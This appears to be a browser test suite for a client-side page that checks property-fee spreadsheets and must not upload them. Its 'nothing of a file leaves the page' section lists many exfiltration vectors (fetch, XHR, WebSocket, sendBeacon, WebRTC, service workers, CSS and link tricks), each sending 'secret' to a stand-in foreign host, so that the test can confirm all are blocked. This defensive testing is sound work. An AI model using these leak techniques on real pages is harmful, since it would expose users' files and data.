/**
 * The published page for senders: what it says is what the command says, and nothing of a file leaves it.
 */
import { readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import Papa from 'papaparse';
import type { Browser, Page } from 'playwright';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { SAMPLE_AS_OF, SAMPLE_CONTENT } from '../../scripts/sample-city.ts';
import { siteServer } from '../../src/publish/server.ts';
import { tableOf } from '../../src/tables/catalogue.ts';
import { launchBrowser } from '../support/browser.ts';
import {
  commandSays,
  filesIn,
  pageSays,
  publishedPortal,
  type SentFile,
  sentCases,
  sentWithoutGlyph,
} from '../support/check-files.ts';
import { holdAgainst, lockedPage, pageChecks } from '../support/check-page.ts';
import { toGb18030 } from '../support/gb18030.ts';
import { makeTrial } from '../support/workbook-trials.ts';

const folder = inject('siteFolder');
let browser: Browser;
/** A server of the published folder that notes what it is asked for, and one of somebody else. */
let own: Server;
let foreign: Server;
const asked: string[] = [];
const addressOf = (server: Server): string => `http://127.0.0.1:${(server.address() as AddressInfo).port}`;

beforeAll(async () => {
  browser = await launchBrowser();
  own = siteServer(folder);
  foreign = createServer((_, response) => response.end());
  for (const server of [own, foreign]) {
    server.on('request', ({ url }) => asked.push(url ?? ''));
    server.on('upgrade', ({ url }, socket) => {
      asked.push(url ?? '');
      socket.destroy();
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  }
});
afterAll(async () => {
  await browser.close();
  for (const server of [own, foreign]) {
    server.closeAllConnections();
    await new Promise((resolve) => server.close(resolve));
  }
});

/** The page as it is as soon as somebody reaches for a file: shut off. */
const opened = async (): Promise<Page> => {
  const page = await (await browser.newContext()).newPage();
  await page.goto(`${addressOf(own)}/check/`);
  await page.waitForSelector('form.drop:not([data-off])');
  expect(await page.locator('form.search').isVisible()).toBe(true);
  await page.focus('#check-files');
  await page.waitForSelector('.locked:not([hidden])');
  return page;
};
const sent = (name: string, text: string) => ({ name, mimeType: 'text/csv', buffer: Buffer.from(text) });
const FEES = '小区编码,收费项目,收费标准,单位,依据,开始日期,代收\n';

describe('a check in the browser says what the command says', () => {
  it('of every case, workbooks of the sample city and ten that are written or damaged in other ways, and asks nobody for anything', async () => {
    const portal = publishedPortal(
      folder,
      readFileSync(path.join(SAMPLE_CONTENT, 'portal.yaml'), 'utf8'),
      SAMPLE_AS_OF,
    );
    const trials = Array.from({ length: 10 }, (_, index): SentFile[] => {
      const { table, bytes } = makeTrial('20261130', index);
      return [{ name: `${tableOf(table).name}.xlsx`, bytes }];
    });
    const sets = [
      ...[...sentCases(), ...sentWithoutGlyph()].map(({ files }) => files),
      ...filesIn(path.join(SAMPLE_CONTENT, 'tables'))
        .filter(({ name }) => name.endsWith('.xlsx'))
        .map((file) => [file]),
      ...trials,
    ];
    const page = await lockedPage(browser, addressOf(own));
    await holdAgainst(page, portal);
    asked.length = 0;
    const found = await pageChecks(page, sets);
    expect(asked).toEqual([]);
    for (const [index, files] of sets.entries()) {
      const told = JSON.parse(JSON.stringify(await commandSays(files, portal)));
      expect(pageSays(found[index] as (typeof found)[0]), files.map(({ name }) => name).join()).toEqual(told);
    }
    await page.context().close();
  });
});

describe('nothing of a file leaves the page', () => {
  /** Every way that a script has of asking a host for something, each under an address of its own. */
  const WAYS_OF_BOTH = [
    'fetch(at("fetch"), { method: "POST", body: "secret" }).catch(() => 0)',
    'new Promise((done) => { const x = new XMLHttpRequest(); x.onloadend = done; x.open("POST", at("xhr")); x.send("secret"); })',
    'new WebSocket(at("socket").replace("http", "ws"))',
    'new EventSource(at("events"))',
    'import(at("import")).catch(() => 0)',
    'new Worker(at("worker"))',
    'new WebTransport(at("transport").replace("http:", "https:"))',
    'caches.open("c").then((c) => c.add(at("cache"))).catch(() => 0)',
    'new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:9" }] }).createDataChannel("secret")',
  ];
  const WAYS_OF_WORKERS = ['importScripts(at("scripts"))'];
  const put = (tag: string, rest: string): string =>
    `document.body.append(Object.assign(document.createElement("${tag}"), ${rest}))`;
  const WAYS_OF_PAGES = [
    'navigator.sendBeacon(at("beacon"), "secret")',
    'new Image().src = at("image")',
    `(() => { const form = Object.assign(document.createElement("form"), { action: at("form"), method: "post" }); document.body.append(form); form.submit(); })()`,
    put('script', '{ src: at("script") }'),
    put('iframe', '{ src: at("frame") }'),
    put('link', '{ rel: "stylesheet", href: at("style") }'),
    put('link', '{ rel: "prefetch", href: at("prefetch") }'),
    put('link', '{ rel: "preload", as: "image", href: at("preload") }'),
    put('video', '{ src: at("video") }'),
    put('object', '{ data: at("object") }'),
    put('embed', '{ src: at("embed") }'),
    put(
      'script',
      '{ type: "speculationrules", textContent: JSON.stringify({ prefetch: [{ source: "list", urls: [at("speculation")] }] }) }',
    ),
    'document.body.style.backgroundImage = "url(" + at("background") + ")"',
    'new FontFace("f", "url(" + at("font") + ")").load().catch(() => 0)',
    'navigator.serviceWorker.register(at("service")).catch(() => 0)',
    '(() => { const a = Object.assign(document.createElement("a"), { href: "#x", ping: at("ping") }); document.body.append(a); a.click(); })()',
  ];
  const script = (host: string, ways: readonly string[]): string => `(async () => {
    const at = (name) => "${host}/leak/" + name;
    const refused = [];
    for (const way of [${ways.map((way) => `async () => ${way}`).join(',\n')}]) {
      try { await Promise.race([way(), new Promise((done) => setTimeout(done, 200))]); } catch (fault) { refused.push(fault.name); }
    }
    return refused;
  })()`;
  /** In a worker that the page has made as it makes its own. */
  const runInWorker = async (page: Page, code: string): Promise<void> => {
    const said = await page.evaluate(
      (program) =>
        new Promise((resolve) => {
          const worker = new Worker(URL.createObjectURL(new Blob([program], { type: 'text/javascript' })));
          worker.onmessage = ({ data }) => resolve(data);
          worker.onerror = ({ message }) => resolve(message);
        }),
      `${code}.then(() => postMessage("done"), (fault) => postMessage(String(fault)))`,
    );
    expect(said).toBe('done');
  };
  const attempts = async (page: Page): Promise<void> => {
    for (const host of [addressOf(own), addressOf(foreign)]) {
      await page.evaluate(script(host, [...WAYS_OF_PAGES, ...WAYS_OF_BOTH]));
      await runInWorker(page, script(host, [...WAYS_OF_BOTH, ...WAYS_OF_WORKERS]));
    }
    // What was on its way would have arrived by now.
    await page.waitForTimeout(300);
  };

  it('from before it holds one: every way out is refused, to its own host too, in page and worker', async () => {
    const page = await opened();
    const address = page.url();
    asked.length = 0;
    await attempts(page);
    expect(asked).toEqual([]);
    expect(page.url().replace(/#.*/, '')).toBe(address);
    expect(
      await page.evaluate(() => ['RTCPeerConnection', 'webkitRTCPeerConnection'].filter((name) => name in window)),
    ).toEqual([]);
    await page.context().close();
  });

  it('which would be seen: before anybody reaches for one, page and worker reach its own host by many of them', async () => {
    const page = await (await browser.newContext()).newPage();
    await page.goto(`${addressOf(own)}/check/`);
    expect(await page.locator('.locked').isHidden()).toBe(true);
    asked.length = 0;
    const without = (words: string, ways: readonly string[]): string[] => ways.filter((way) => !way.includes(words));
    await page.evaluate(script(addressOf(own), without('"form"', WAYS_OF_PAGES)));
    await runInWorker(page, script(`${addressOf(own)}/worker`, [...WAYS_OF_BOTH, ...WAYS_OF_WORKERS]));
    await page.waitForTimeout(300);
    const seen = [
      ...['beacon', 'image', 'script', 'style', 'prefetch', 'background'].map((name) => `/leak/${name}`),
      ...['fetch', 'xhr', 'socket', 'events', 'import', 'cache', 'scripts'].map((name) => `/worker/leak/${name}`),
    ];
    expect(seen.filter((path) => !asked.includes(path))).toEqual([]);
    await page.context().close();
  });

  it('while files come one after another, and the list of problems is kept', { tags: 'long' }, async () => {
    const page = await opened();
    asked.length = 0;
    await page.setInputFiles(
      '#check-files',
      sent('收费标准.csv', `${FEES}JZ999,物业服务费,0.85,元/㎡·月,合同,2026-01-01,否\n`),
    );
    await page.waitForSelector('#told');
    await page.setInputFiles('#check-files', sent('合同.csv', '小区编码\nJZ001\n'));
    await page.waitForSelector('.checked:nth-of-type(2)');
    expect(await page.locator('.checked h3').allTextContents()).toEqual(['收费标准.csv', '合同.csv']);
    const [download] = await Promise.all([page.waitForEvent('download'), page.click('.keep')]);
    const { data } = Papa.parse<string[]>(readFileSync(await download.path(), 'utf8').replace(/^\ufeff/, ''));
    expect(data.map(([file, , , cell]) => [file, cell])).toContainEqual(['收费标准.csv', 'A2']);
    expect(asked).toEqual([]);
    await page.context().close();
  });
});

describe('the page for senders', () => {
  it('tells what was read, what is wrong in which cell, and moves the focus there', async () => {
    const page = await opened();
    const gbk = toGb18030(
      `${FEES}丁香苑,物业服务费,暂无,元/㎡·月,合同,2026-01-01,否\nJZ001,物业服务费,0.85,元/㎡·月,合同,2026-01-01,否\n`,
    );
    await page.setInputFiles('#check-files', [
      { name: '收费标准.csv', mimeType: 'text/csv', buffer: Buffer.from(gbk) },
      { name: '公共收益.xlsx', mimeType: '', buffer: Buffer.from('PK\x03\x04 broken', 'latin1') },
    ]);
    await page.waitForSelector('#told');
    expect(await page.evaluate(() => document.activeElement?.id)).toBe('told');
    const [fees = '', broken = ''] = await page.locator('.checked').allTextContents();
    expect(fees).toContain('读成「收费标准」表');
    expect(fees).toContain('第 2 行「收费标准」（C2）');
    expect(broken).toContain('工作簿已损坏');
    expect(await page.locator('form.search').isHidden()).toBe(true);
    expect(await page.locator('.locked').isVisible()).toBe(true);
    await page.emulateMedia({ media: 'print' });
    expect(await page.locator('#choose').isVisible()).toBe(false);
    expect(await page.locator('.checked').first().isVisible()).toBe(true);
    await page.context().close();
  });

  it('takes what is dropped anywhere on it', { tags: 'long' }, async () => {
    const page = await opened();
    await page.evaluate((text) => {
      const data = new DataTransfer();
      data.items.add(new File([text], '合同.csv'));
      document.querySelector('h1')?.dispatchEvent(new DragEvent('drop', { dataTransfer: data, bubbles: true }));
    }, '小区编码\nJZ001\n');
    await page.waitForSelector('#told');
    expect(await page.locator('.checked h3').allTextContents()).toEqual(['合同.csv']);
    await page.context().close();
  });

  it('stops when it is told to, and goes on with the next file', { tags: 'long' }, async () => {
    const page = await opened();
    const long = FEES + 'JZ001,物业服务费,0.85,元/㎡·月,合同,2026-01-01,否\n'.repeat(50_000);
    await page.setInputFiles('#check-files', sent('收费标准.csv', long));
    await page.click('.stop');
    expect(await page.locator('.told').textContent()).toBe('停下了，没有查完。');
    await page.setInputFiles(
      '#check-files',
      sent('收费标准.csv', `${FEES}JZ001,物业服务费,0.85,元/㎡·月,合同,2026-01-01,否\n`),
    );
    await page.waitForSelector('#told');
    expect(await page.locator('.checked').count()).toBe(1);
    await page.context().close();
  });

  it('checks all the same where nothing of the site can be had, and says what it could not look at', {
    tags: 'long',
  }, async () => {
    const page = await (await browser.newContext()).newPage();
    await page.route('**/check/grounds.json', (route) => route.abort());
    await page.goto(`${addressOf(own)}/check/`);
    await page.setInputFiles(
      '#check-files',
      sent('收费标准.csv', `${FEES}JZ999,物业服务费,0.85,元/㎡·月,合同,2026-01-01,否\n`),
    );
    await page.waitForSelector('#told');
    expect(await page.locator('.offline').isVisible()).toBe(true);
    expect(await page.locator('.told').textContent()).toContain('1 行可以公布');
    await page.context().close();
  });

  it('says what to do where the browser can’t run it', async () => {
    const plain = await (await browser.newContext({ javaScriptEnabled: false })).newPage();
    await plain.goto(`${addressOf(own)}/check/`);
    expect(await plain.locator('.needs-script').isVisible()).toBe(true);
    expect(await plain.locator('.needs-script').textContent()).toContain('0355-0000000');
    expect(await plain.locator('form.drop').isVisible()).toBe(false);
    await plain.context().close();

    const old = await (await browser.newContext()).newPage();
    await old.addInitScript(() => {
      window.Worker = class {
        constructor() {
          throw new SyntaxError('too old');
        }
      } as unknown as typeof Worker;
    });
    await old.goto(`${addressOf(own)}/check/`);
    await old.setInputFiles('#check-files', sent('合同.csv', '小区编码\nJZ001\n'));
    await old.waitForFunction(() => document.querySelector('.told')?.textContent !== '');
    expect(await old.locator('.told').textContent()).toContain('浏览器太旧');
    await old.context().close();
  });
});
